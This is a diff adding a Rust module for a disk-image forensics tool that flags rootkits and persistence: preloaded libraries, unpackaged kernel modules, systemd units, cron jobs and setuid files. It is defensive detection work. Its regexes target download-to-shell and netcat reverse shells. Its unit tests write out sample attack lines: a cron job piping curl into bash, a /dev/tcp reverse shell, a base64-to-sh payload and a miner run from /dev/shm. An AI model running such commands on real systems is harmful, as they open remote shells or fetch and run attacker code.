@@ -0,0 +1,618 @@
+// SPDX-License-Identifier: LGPL-3.0-or-later
+//! Rootkit and persistence checks
+//!
+//! Most of these compare what is on disk with the guest's package
+//! databases: kernel modules, systemd units, cron jobs and setuid binaries
+//! that no package installed. Without a package database those comparisons
+//! are skipped and only suspicious content is reported.
+
+use super::Finding;
+use guestkit::Guestfs;
+use regex::Regex;
+use std::collections::{HashMap, HashSet};
+use std::sync::OnceLock;
+
+/// Where dropped payloads usually run from
+const TEMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];
+
+/// Files that set the environment of every login
+const ENVIRONMENT_FILES: &[&str] = &["/etc/environment", "/etc/profile", "/etc/bash.bashrc"];
+
+const MODULE_DIRS: &[&str] = &["/lib/modules", "/usr/lib/modules"];
+
+const MODULES_LOAD_DIRS: &[&str] = &[
+    "/etc/modules-load.d",
+    "/usr/lib/modules-load.d",
+    "/lib/modules-load.d",
+];
+
+/// Places a kernel module has no business being
+const STRAY_MODULE_DIRS: &[&str] = &[
+    "/tmp",
+    "/var/tmp",
+    "/dev/shm",
+    "/root",
+    "/home",
+    "/opt",
+    "/usr/local",
+];
+
+const UNIT_DIRS: &[&str] = &[
+    "/etc/systemd/system",
+    "/etc/systemd/user",
+    "/usr/local/lib/systemd/system",
+    "/usr/lib/systemd/system",
+    "/lib/systemd/system",
+    "/usr/lib/systemd/user",
+];
+
+const CRON_SCRIPT_DIRS: &[&str] = &[
+    "/etc/cron.d",
+    "/etc/cron.hourly",
+    "/etc/cron.daily",
+    "/etc/cron.weekly",
+    "/etc/cron.monthly",
+];
+
+const USER_CRONTAB_DIRS: &[&str] = &[
+    "/var/spool/cron/crontabs",
+    "/var/spool/cron/tabs",
+    "/var/spool/cron",
+];
+
+const RC_LOCAL: &[&str] = &["/etc/rc.local", "/etc/rc.d/rc.local"];
+
+/// The packaged paths of the guest
+#[derive(Debug, Default)]
+pub struct Packaged {
+    owners: HashMap<String, String>,
+}
+
+impl Packaged {
+    /// Index the guest's package databases, or nothing if none is readable
+    pub fn load(g: &mut Guestfs) -> Self {
+        match g.package_file_owners() {
+            Ok(owners) if !owners.is_empty() => Self { owners },
+            Ok(_) => {
+                log::warn!("No package database found; skipping package ownership checks");
+                Self::default()
+            }
+            Err(e) => {
+                log::warn!("Skipping package ownership checks: {}", e);
+                Self::default()
+            }
+        }
+    }
+
+    /// The package owning `path`, in either `/usr` layout
+    pub fn owner(&self, path: &str) -> Option<&str> {
+        let merged = ["/bin/", "/sbin/", "/lib/", "/lib64/"]
+            .iter()
+            .any(|prefix| path.starts_with(prefix))
+            .then(|| format!("/usr{}", path));
+        let split = ["/usr/bin/", "/usr/sbin/", "/usr/lib/", "/usr/lib64/"]
+            .iter()
+            .any(|prefix| path.starts_with(prefix))
+            .then(|| path.trim_start_matches("/usr").to_string());
+
+        std::iter::once(path)
+            .chain(merged.as_deref())
+            .chain(split.as_deref())
+            .find_map(|candidate| self.owners.get(candidate))
+            .map(|owner| owner.as_str())
+    }
+
+    /// Whether a package database was read and no package owns `path`
+    pub fn disowns(&self, path: &str) -> bool {
+        !self.owners.is_empty() && self.owner(path).is_none()
+    }
+}
+
+/// Read a guest file as text, if it is there
+fn read_text(g: &mut Guestfs, path: &str) -> Option<String> {
+    g.read_file(path)
+        .ok()
+        .map(|content| String::from_utf8_lossy(&content).into_owned())
+}
+
+/// Regular files below the directories, each once however the directories
+/// are linked
+fn files_below(g: &mut Guestfs, dirs: &[&str]) -> Vec<String> {
+    let mut seen = HashSet::new();
+    let mut files = Vec::new();
+    for dir in dirs {
+        if !g.is_dir(dir).unwrap_or(false) {
+            continue;
+        }
+        for file in g.find(dir).unwrap_or_default() {
+            // /lib/... and /usr/lib/... are the same files on merged-/usr
+            let canonical = file.strip_prefix("/usr").unwrap_or(&file).to_string();
+            if seen.insert(canonical) {
+                files.push(file);
+            }
+        }
+    }
+    files.sort();
+    files
+}
+
+/// Entries of an `ld.so.preload` file
+pub fn parse_preload(content: &str) -> Vec<&str> {
+    content
+        .lines()
+        .map(|line| line.split('#').next().unwrap_or(""))
+        .flat_map(|line| line.split(|c: char| c.is_whitespace() || c == ':'))
+        .filter(|entry| !entry.is_empty())
+        .collect()
+}
+
+/// Libraries injected into every process by `/etc/ld.so.preload` or a
+/// global `LD_PRELOAD`
+pub fn ld_preload(g: &mut Guestfs) -> Vec<Finding> {
+    let mut findings = Vec::new();
+
+    if let Some(content) = read_text(g, "/etc/ld.so.preload") {
+        for library in parse_preload(&content) {
+            let detail = if g.exists(library).unwrap_or(false) {
+                "listed in /etc/ld.so.preload"
+            } else {
+                "listed in /etc/ld.so.preload; the library is missing or hidden"
+            };
+            findings.push(
+                Finding::new(
+                    "ld-so-preload",
+                    "CRITICAL",
+                    "Library preloaded into every process",
+                    library,
+                )
+                .with_detail(detail),
+            );
+        }
+    }
+
+    let mut files: Vec<String> = ENVIRONMENT_FILES.iter().map(|f| f.to_string()).collect();
+    files.extend(
+        files_below(g, &["/etc/profile.d"])
+            .into_iter()
+            .filter(|f| f.ends_with(".sh")),
+    );
+    for file in files {
+        let Some(content) = read_text(g, &file) else {
+            continue;
+        };
+        for line in content.lines().map(str::trim) {
+            if !line.starts_with('#') && line.contains("LD_PRELOAD=") {
+                findings.push(
+                    Finding::new(
+                        "ld-preload-env",
+                        "HIGH",
+                        "LD_PRELOAD set for every login",
+                        file.as_str(),
+                    )
+                    .with_detail(line),
+                );
+            }
+        }
+    }
+
+    findings
+}
+
+/// Module name of a kernel module file, as `modprobe` normalizes it
+pub fn module_name(path: &str) -> Option<String> {
+    let file = path.rsplit('/').next()?;
+    let stem = [".ko", ".ko.xz", ".ko.zst", ".ko.gz"]
+        .iter()
+        .find_map(|ext| file.strip_suffix(ext))?;
+    Some(stem.replace('-', "_"))
+}
+
+/// Modules loaded at boot, with the file that loads them
+pub fn boot_modules(g: &mut Guestfs) -> HashMap<String, String> {
+    let mut files = vec!["/etc/modules".to_string()];
+    files.extend(
+        files_below(g, MODULES_LOAD_DIRS)
+            .into_iter()
+            .filter(|f| f.ends_with(".conf")),
+    );
+
+    let mut modules = HashMap::new();
+    for file in files {
+        let Some(content) = read_text(g, &file) else {
+            continue;
+        };
+        for line in content.lines() {
+            let Some(name) = line.split_whitespace().next() else {
+                continue;
+            };
+            if !name.starts_with(['#', ';']) {
+                modules
+                    .entry(name.replace('-', "_"))
+                    .or_insert_with(|| file.clone());
+            }
+        }
+    }
+    modules
+}
+
+/// Kernel modules no package installed, and modules outside the module
+/// tree
+pub fn kernel_modules(g: &mut Guestfs, packaged: &Packaged) -> Vec<Finding> {
+    let mut findings = Vec::new();
+    let at_boot = boot_modules(g);
+
+    for path in files_below(g, MODULE_DIRS) {
+        let Some(name) = module_name(&path) else {
+            continue;
+        };
+        if !packaged.disowns(&path) {
+            continue;
+        }
+
+        let finding = if path.contains("/dkms/")
+            || g.is_dir(&format!("/var/lib/dkms/{}", name))
+                .unwrap_or(false)
+        {
+            Finding::new(
+                "unpackaged-kernel-module",
+                "LOW",
+                "Kernel module built locally by DKMS",
+                path.as_str(),
+            )
+        } else if let Some(conf) = at_boot.get(&name) {
+            Finding::new(
+                "unpackaged-kernel-module",
+                "CRITICAL",
+                "Kernel module not from any package, loaded at boot",
+                path.as_str(),
+            )
+            .with_detail(format!("loaded by {}", conf))
+        } else {
+            Finding::new(
+                "unpackaged-kernel-module",
+                "HIGH",
+                "Kernel module not from any package",
+                path.as_str(),
+            )
+        };
+        findings.push(finding);
+    }
+
+    for path in files_below(g, STRAY_MODULE_DIRS) {
+        if module_name(&path).is_some() {
+            findings.push(Finding::new(
+                "stray-kernel-module",
+                "HIGH",
+                "Kernel module outside the module tree",
+                path,
+            ));
+        }
+    }
+
+    findings
+}
+
+/// Why a command line looks like a dropper or a backdoor, if it does
+pub fn suspicious_command(command: &str) -> Option<&'static str> {
+    static DOWNLOAD_TO_SHELL: OnceLock<Regex> = OnceLock::new();
+    static NETCAT_SHELL: OnceLock<Regex> = OnceLock::new();
+    let download_to_shell = DOWNLOAD_TO_SHELL.get_or_init(|| {
+        Regex::new(
+            r"\b(?:curl|wget)\b[^|;]*\|\s*(?:sudo\s+)?(?:/bin/|/usr/bin/)?(?:ba|da|z|k)?sh\b",
+        )
+        .unwrap()
+    });
+    let netcat_shell =
+        NETCAT_SHELL.get_or_init(|| Regex::new(r"\b(?:nc|ncat|netcat)\b.*\s-[ce]\s").unwrap());
+
+    if download_to_shell.is_match(command) {
+        Some("pipes a download into a shell")
+    } else if command.contains("/dev/tcp/")
+        || command.contains("/dev/udp/")
+        || netcat_shell.is_match(command)
+    {
+        Some("opens a reverse shell")
+    } else if command.contains("base64 -d") || command.contains("base64 --decode") {
+        Some("decodes a base64 payload")
+    } else if command
+        .split(|c: char| c.is_whitespace() || matches!(c, '=' | '"' | '\'' | ';' | '&' | '|'))
+        .any(|word| TEMP_DIRS.iter().any(|dir| word.starts_with(dir)))
+    {
+        Some("runs a program from a temporary directory")
+    } else {
+        None
+    }
+}
+
+/// Findings for the suspicious lines of a script or crontab
+fn suspicious_lines(check: &str, title: &str, path: &str, content: &str) -> Vec<Finding> {
+    content
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.starts_with('#'))
+        .filter_map(|line| {
+            suspicious_command(line).map(|reason| {
+                Finding::new(check, "HIGH", title, path)
+                    .with_detail(format!("{}: {}", reason, line))
+            })
+        })
+        .collect()
+}
+
+/// Command lines of a systemd unit
+pub fn unit_commands(content: &str) -> Vec<&str> {
+    content
+        .lines()
+        .map(str::trim)
+        .filter_map(|line| line.split_once('='))
+        .filter(|(key, _)| key.trim().starts_with("Exec"))
+        .map(|(_, value)| value.trim().trim_start_matches(['-', '@', '+', '!', ':']))
+        .collect()
+}
+
+/// systemd units no package installed, and units running suspicious commands
+pub fn systemd_units(g: &mut Guestfs, packaged: &Packaged) -> Vec<Finding> {
+    let mut findings = Vec::new();
+
+    for path in files_below(g, UNIT_DIRS) {
+        let is_unit = [".service", ".timer", ".socket", ".path"]
+            .iter()
+            .any(|ext| path.ends_with(ext));
+        // Drop-ins can replace ExecStart= of a packaged unit
+        let is_drop_in = path.ends_with(".conf") && path.contains(".d/");
+        if !is_unit && !is_drop_in {
+            continue;
+        }
+        let Some(content) = read_text(g, &path) else {
+            continue;
+        };
+
+        let suspicious: Vec<String> = unit_commands(&content)
+            .into_iter()
+            .filter_map(|cmd| suspicious_command(cmd).map(|reason| format!("{}: {}", reason, cmd)))
+            .collect();
+        if !suspicious.is_empty() {
+            findings.push(
+                Finding::new(
+                    "systemd-persistence",
+                    "HIGH",
+                    "systemd unit runs a suspicious command",
+                    path.as_str(),
+                )
+                .with_detail(suspicious.join("; ")),
+            );
+        } else if is_unit && packaged.disowns(&path) {
+            // Administrators write units in /etc; packages own the rest
+            let severity = if path.starts_with("/etc/") {
+                "LOW"
+            } else {
+                "MEDIUM"
+            };
+            findings.push(Finding::new(
+                "unpackaged-systemd-unit",
+                severity,
+                "systemd unit not from any package",
+                path,
+            ));
+        }
+    }
+
+    findings
+}
+
+/// Cron jobs and startup scripts that run suspicious commands, cron files
+/// no package installed, and user crontabs
+pub fn cron_jobs(g: &mut Guestfs, packaged: &Packaged) -> Vec<Finding> {
+    let mut findings = Vec::new();
+
+    for path in ["/etc/crontab", "/etc/anacrontab"] {
+        if let Some(content) = read_text(g, path) {
+            findings.extend(suspicious_lines(
+                "cron-persistence",
+                "Cron job runs a suspicious command",
+                path,
+                &content,
+            ));
+        }
+    }
+
+    for path in files_below(g, CRON_SCRIPT_DIRS) {
+        let Some(content) = read_text(g, &path) else {
+            continue;
+        };
+        let suspicious = suspicious_lines(
+            "cron-persistence",
+            "Cron job runs a suspicious command",
+            &path,
+            &content,
+        );
+        if suspicious.is_empty() && packaged.disowns(&path) && !path.ends_with("/.placeholder") {
+            findings.push(Finding::new(
+                "unpackaged-cron-job",
+                "LOW",
+                "Cron job not from any package",
+                path,
+            ));
+        } else {
+            findings.extend(suspicious);
+        }
+    }
+
+    for path in files_below(g, USER_CRONTAB_DIRS) {
+        let Some(content) = read_text(g, &path) else {
+            continue;
+        };
+        let suspicious = suspicious_lines(
+            "cron-persistence",
+            "Cron job runs a suspicious command",
+            &path,
+            &content,
+        );
+        if suspicious.is_empty() {
+            let jobs = content
+                .lines()
+                .map(str::trim)
+                .filter(|l| !l.is_empty() && !l.starts_with('#') && !l.contains('='))
+                .count();
+            if jobs > 0 {
+                findings.push(
+                    Finding::new("user-crontab", "LOW", "User crontab", path)
+                        .with_detail(format!("{} jobs", jobs)),
+                );
+            }
+        } else {
+            findings.extend(suspicious);
+        }
+    }
+
+    for path in RC_LOCAL {
+        let Some(content) = read_text(g, path) else {
+            continue;
+        };
+        findings.extend(suspicious_lines(
+            "rc-local-persistence",
+            "rc.local runs a suspicious command",
+            path,
+            &content,
+        ));
+        for line in content.lines().map(str::trim) {
+            if !line.starts_with('#')
+                && (line.starts_with("insmod ") || line.starts_with("modprobe "))
+            {
+                findings.push(
+                    Finding::new(
+                        "rc-local-persistence",
+                        "MEDIUM",
+                        "rc.local loads a kernel module",
+                        *path,
+                    )
+                    .with_detail(line),
+                );
+            }
+        }
+    }
+
+    findings
+}
+
+/// Setuid and setgid files no package installed
+pub fn setuid_binaries(g: &mut Guestfs, packaged: &Packaged) -> Vec<Finding> {
+    let entries = match g.find_special_perms("/") {
+        Ok(entries) => entries,
+        Err(e) => {
+            log::warn!("Skipping the setuid check: {}", e);
+            return Vec::new();
+        }
+    };
+
+    entries
+        .iter()
+        .filter(|e| (e.is_setuid() || e.is_setgid()) && !e.is_dir())
+        .filter(|e| !e.path.starts_with("/proc/") && !e.path.starts_with("/sys/"))
+        .filter(|e| packaged.disowns(&e.path))
+        .map(|e| {
+            let writable_place = TEMP_DIRS
+                .iter()
+                .chain(&["/home/", "/root/"])
+                .any(|dir| e.path.starts_with(dir))
+                || e.path.contains("/.");
+            let severity = if writable_place { "CRITICAL" } else { "HIGH" };
+            let title = if e.is_setuid() {
+                "Setuid file not from any package"
+            } else {
+                "Setgid file not from any package"
+            };
+            Finding::new("unpackaged-setuid", severity, title, e.path.as_str())
+                .with_detail(format!("mode {:o}, owner uid {}", e.mode & 0o7777, e.uid))
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_preload() {
+        let content = "# injected\n/lib/x86_64-linux-gnu/libprocesshider.so\n/usr/lib/a.so:/usr/lib/b.so  # two\n\n";
+        assert_eq!(
+            parse_preload(content),
+            [
+                "/lib/x86_64-linux-gnu/libprocesshider.so",
+                "/usr/lib/a.so",
+                "/usr/lib/b.so"
+            ]
+        );
+    }
+
+    #[test]
+    fn test_module_name() {
+        assert_eq!(
+            module_name("/lib/modules/6.1.0-18-amd64/kernel/drivers/net/e1000e.ko.xz").as_deref(),
+            Some("e1000e")
+        );
+        assert_eq!(
+            module_name("/tmp/.x/diamorphine.ko").as_deref(),
+            Some("diamorphine")
+        );
+        assert_eq!(
+            module_name("/lib/modules/6.1.0/snd-hda-intel.ko.zst").as_deref(),
+            Some("snd_hda_intel")
+        );
+        assert_eq!(module_name("/lib/modules/6.1.0/modules.dep"), None);
+    }
+
+    #[test]
+    fn test_suspicious_command() {
+        assert_eq!(
+            suspicious_command("*/5 * * * * root curl -fsSL http://x.example/s | bash"),
+            Some("pipes a download into a shell")
+        );
+        assert_eq!(
+            suspicious_command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            Some("opens a reverse shell")
+        );
+        assert_eq!(
+            suspicious_command("echo aGVsbG8= | base64 -d | sh"),
+            Some("decodes a base64 payload")
+        );
+        assert_eq!(
+            suspicious_command("/dev/shm/.kworker -o pool.example:3333"),
+            Some("runs a program from a temporary directory")
+        );
+        assert_eq!(
+            suspicious_command("17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
+            None
+        );
+        assert_eq!(suspicious_command("find /tmp -mtime +7 -delete"), None);
+    }
+
+    #[test]
+    fn test_unit_commands() {
+        let unit = "[Service]\nType=simple\nExecStartPre=-/usr/bin/mkdir -p /run/x\nExecStart=/var/tmp/.cache/x\n";
+        assert_eq!(
+            unit_commands(unit),
+            ["/usr/bin/mkdir -p /run/x", "/var/tmp/.cache/x"]
+        );
+    }
+
+    #[test]
+    fn test_packaged_owner() {
+        let packaged = Packaged {
+            owners: HashMap::from([
+                ("/bin/su".to_string(), "util-linux".to_string()),
+                (
+                    "/usr/lib/modules/6.1/kernel/fs/ext4.ko".to_string(),
+                    "linux-image".to_string(),
+                ),
+            ]),
+        };
+        assert_eq!(packaged.owner("/usr/bin/su"), Some("util-linux"));
+        assert_eq!(
+            packaged.owner("/lib/modules/6.1/kernel/fs/ext4.ko"),
+            Some("linux-image")
+        );
+        assert!(packaged.disowns("/usr/bin/pwnkit"));
+        assert!(!Packaged::default().disowns("/usr/bin/pwnkit"));
+    }
+}